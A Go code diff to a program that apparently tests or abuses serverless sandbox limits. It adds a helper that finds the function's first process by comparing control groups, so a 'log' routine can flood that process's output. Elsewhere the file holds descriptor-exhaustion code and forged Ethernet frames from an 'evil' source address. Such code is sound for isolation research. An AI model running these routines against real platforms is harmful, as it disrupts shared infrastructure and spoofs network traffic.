@@ -10,7 +10,9 @@ import (
 	"net/http"
 	"os"
 	"os/exec"
+	"path/filepath"
 	"runtime"
+	"strconv"
 	"strings"
 	"sync/atomic"
 	"time"
@@ -58,9 +60,9 @@ var abuses = map[string]func(deadline time.Time) string{
 		return fmt.Sprintf("%d descriptors", 2*len(kept))
 	},
 	"log": func(deadline time.Time) string { // into the function's own log: the first process's output
-		out, err := os.OpenFile("/proc/1/fd/1", os.O_WRONLY, 0)
+		out, err := os.OpenFile(fmt.Sprintf("/proc/%d/fd/1", first()), os.O_WRONLY, 0)
 		if err != nil {
-			out = os.Stdout
+			return err.Error()
 		}
 		line := bytes.Repeat([]byte("x"), 1<<16-1)
 		line = append(line, '\n')
@@ -301,4 +303,19 @@ func forged(mac net.HardwareAddr, ip net.IP) [][]byte {
 		frame(net.HardwareAddr{1, 0x80, 0xc2, 0, 0, 0xe}, evil, 0x88cc, []byte{2, 7, 4, 2, 0xba, 0xd, 0xba, 0xd, 1, 4, 2, 7, 'x', 6, 2, 0, 120, 0, 0}),
 		frame(all, evil, 0x88b5, []byte("Weir\x00\x00\x00\x01aaaaaaaaaaaaaaaa")),
 	}
+}
+
+// first is the function's first process: of those in this one's control group the one with the lowest number, which is 1 in a PID namespace.
+func first() int {
+	own, _ := os.ReadFile("/proc/self/cgroup")
+	all, _ := filepath.Glob("/proc/[0-9]*/cgroup")
+	lowest := os.Getpid()
+	for _, f := range all {
+		if pid, err := strconv.Atoi(filepath.Base(filepath.Dir(f))); err == nil && pid < lowest {
+			if in, err := os.ReadFile(f); err == nil && bytes.Equal(in, own) {
+				lowest = pid
+			}
+		}
+	}
+	return lowest
 }
